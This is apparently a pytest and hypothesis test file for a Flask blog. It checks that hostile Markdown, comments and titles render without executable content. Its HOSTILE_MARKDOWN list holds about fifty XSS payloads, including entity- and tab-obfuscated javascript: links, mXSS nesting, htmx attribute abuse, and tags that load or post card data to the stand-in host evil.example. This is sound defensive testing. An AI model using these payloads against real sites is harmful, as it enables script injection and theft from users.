"""Hostile Markdown and hostile comments render inert: nothing executable reaches a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from blueprints.blog.models import Comment
from blueprints.shared.extensions import db
from blueprints.shared.markdown import EMBED_MARKER, render_markdown, render_plain_text
from harness.blog import add_post

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "form", "input", "button", "textarea", "select",
    "style", "link", "meta", "base", "object", "embed", "applet", "svg", "math", "template",
    "noscript", "video", "audio", "source", "portal", "dialog",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)
VOID_TAGS = {"area", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">hex entities</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "[markdown link](javascript:alert(1))",
    "[spaced](  javascript:alert(1)  )",
    '[title trick](https://ok.example "x" onmouseover="alert(1))',
    "![image](javascript:alert(1))",
    '![image](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">handlers</a>',
    '<p style="position:fixed;top:0">overlay</p>',
    '<p hx-get="/studio/" hx-trigger="load" hx-target="body">htmx</p>',
    '<div data-hx-post="/studio/" data-hx-trigger="load">htmx data</div>',
    '<a data-video-facade data-embed-src="javascript:alert(1)" href="#">facade</a>',
    '<div hx-on:click="alert(1)">hx-on</div>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<h2 id="x" onclick="alert(1)">heading with a handler</h2>',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert('indented code')</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe src=https://evil.example></iframe>",
    "[[drill:<script>alert(1)</script>]]",
    '[[drill:cat-cow" onmouseover="alert(1)]]',
    # A drill marker hidden in an attribute must never be expanded into it (quote breakout).
    '<a title="<p>[[drill:cat-cow]]</p> onmouseover=alert(1) x=" href="https://ok.example">t</a>',
    '<img alt="<p>[[drill:cat-cow]]</p>" src="a.png" onerror="alert(1)">',
]


class TagCollector(HTMLParser):
    """Every start tag and its attributes, optionally only inside the element with `within_id`."""

    def __init__(self, within_id: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.within_id = within_id
        self.depth = 0 if within_id else 1
        self.found_region = within_id is None
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        if self.depth == 0:
            if attributes.get("id") == self.within_id:
                self.found_region = True
                self.depth = 1
            return
        self.tags.append((tag, attributes))
        if tag not in VOID_TAGS:
            self.depth += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth > 0:
            self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if self.within_id and self.depth > 0 and tag not in VOID_TAGS:
            self.depth -= 1


def as_browser_reads_url(value: str) -> str:
    """What the WHATWG URL parser sees: outer controls/spaces trimmed, tabs and newlines removed."""
    outer = "".join(chr(code) for code in range(0x21))
    return re.sub(r"[\t\n\r]", "", value.strip(outer))


OUR_DEMONSTRATION = re.compile(r"/drills/[a-z0-9-]+/demonstration\.svg\?[a-z0-9=&;]+")


def problems_in(html: str, within_id: str | None = None) -> list[str]:
    """What in `html` could run code, restyle the page or post somewhere; empty when inert."""
    collector = TagCollector(within_id)
    collector.feed(html)
    collector.close()
    assert collector.found_region, f"no element with id={within_id!r} in the page"
    found = []
    for tag, attributes in collector.tags:
        ours = (tag == "button" and "data-demo-play" in attributes) or (  # a drill card's play
            tag == "source"  # ... and its dark picture, our own file
            and OUR_DEMONSTRATION.fullmatch(attributes.get("srcset", "")) is not None
        )
        if tag in FORBIDDEN_TAGS and not ours:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name == "style":
                found.append(f"{name} on <{tag}>")
            if name.startswith(("hx-", "data-hx-")) or name.startswith("data-video"):
                found.append(f"{name} on <{tag}>")
            if EMBED_MARKER.search(value):
                found.append(f"drill marker in {name} on <{tag}>")
            if name in URL_ATTRIBUTES | {"data-embed-src"} and DANGEROUS_SCHEME.match(
                as_browser_reads_url(value)
            ):
                found.append(f"{name}={value!r} on <{tag}>")
    return found


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_each_hostile_markdown_snippet_renders_inert(source: str) -> None:
    html = render_markdown(f"Some text.\n\n{source}\n\nMore text.").html
    assert problems_in(html) == []
    assert "<script" not in html.lower()


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_no_drill_marker_is_left_inside_an_attribute(source: str) -> None:
    """Markers are expanded in the stored HTML text, so one inside an attribute must not remain
    (with nh3 < 0.3, which leaves "<" raw in attributes, it would break out of the attribute)."""
    html = render_markdown(source).html
    values = [value for _, attributes in _all_tags(html) for value in attributes.values()]
    assert not [value for value in values if EMBED_MARKER.search(value)], html


def test_the_checker_itself_catches_what_it_should() -> None:
    """A sanity check on problems_in(): unsanitised hostile HTML is flagged."""
    raw = '<a href=" java\tscript:x" onclick="y">a</a><p style="a" hx-get="/">b</p><script>'
    assert len(problems_in(raw)) == 5


def test_hostile_article_page_has_only_our_scripts_and_an_inert_body(seeded_app: Flask) -> None:
    corpus = "\n\n".join(["[[drill:cat-cow]]", *HOSTILE_MARKDOWN])
    with seeded_app.app_context():
        add_post(
            "hostile",
            title='</script><script>alert("title")</script>',
            summary='"><img src=x onerror=alert(1)>',
            body=corpus,
        )
    response = seeded_app.test_client().get("/blog/hostile")
    page = response.get_data(as_text=True)

    assert response.status_code == 200
    assert problems_in(page, within_id="article-body") == []
    assert "Cat-cow" in page  # the genuine drill card still renders among the hostile text
    scripts = [attrs for tag, attrs in _all_tags(page) if tag == "script"]
    assert all(
        attrs.get("src", "").startswith("/static/js/") or attrs.get("type") == "application/ld+json"
        for attrs in scripts
    ), scripts
    assert '<script>alert("title")' not in page
    assert "<img src=x onerror" not in page


def test_hostile_comment_is_shown_as_text_once_approved(app: Flask) -> None:
    hostile = "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)> [x](javascript:alert(3))"
    with app.app_context():
        post = add_post("talk")
        db.session.add(
            Comment(post_id=post.id, name="<b>Mallory</b>", body=hostile, status="approved")
        )
        db.session.commit()
    page = app.test_client().get("/blog/talk").get_data(as_text=True)

    assert problems_in(page, within_id="comment-list") == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;b&gt;Mallory&lt;/b&gt;" in page
    assert "<img src=x" not in page


def test_unapproved_hostile_comment_never_reaches_the_page(app: Flask) -> None:
    with app.app_context():
        post = add_post("quiet")
        db.session.add(Comment(post_id=post.id, name="Mallory", body="<script>x</script>"))
        db.session.commit()
        assert db.session.scalar(select(Comment.status)) == "pending"
    page = app.test_client().get("/blog/quiet").get_data(as_text=True)
    assert "&lt;script&gt;x" not in page and "<script>x" not in page


def _all_tags(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = TagCollector()
    collector.feed(html)
    return collector.tags


# Fragments that, in some order, make most of the classic attacks; hypothesis shuffles them.
FRAGMENTS = st.sampled_from(
    [
        "<", ">", "/", '"', "'", "`", "=", " ", "\n", "\n\n", "\t", "&", "#", ";", ":", "(", ")",
        "[", "]", "!", "*", "-", "script", "iframe", "img", "svg", "a", "p", "form", "style",
        "src", "href", "onerror", "onload", "onclick", "hx-get", "data-hx-post", "hx-on:click",
        "javascript", "JaVaScRiPt", "&#106;", "&#x6A;", "vbscript", "data:text/html,", "alert(1)",
        "[[drill:", "]]", "cat-cow", "<!--", "-->", "<![CDATA[", "]]>", "```", "    ", "> ",
        "<math>", "<template>", "<noscript>", "\x00", "\u2028",
    ]
)  # fmt: skip
HOSTILE_TEXT = st.lists(FRAGMENTS, max_size=60).map("".join)


@settings(
    max_examples=250,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(source=HOSTILE_TEXT)
def test_any_markdown_built_from_attack_fragments_renders_inert(source: str) -> None:
    html = render_markdown(source).html
    assert problems_in(html) == [], html


@settings(max_examples=250, deadline=None, database=None)
@given(text=st.one_of(HOSTILE_TEXT, st.text(max_size=300)))
def test_any_comment_text_renders_as_paragraphs_only(text: str) -> None:
    html = str(render_plain_text(text))
    tags = {tag for tag, _ in _all_tags(html)}
    assert tags <= {"p", "br"}, html
    assert all(attrs == {} for _, attrs in _all_tags(html))
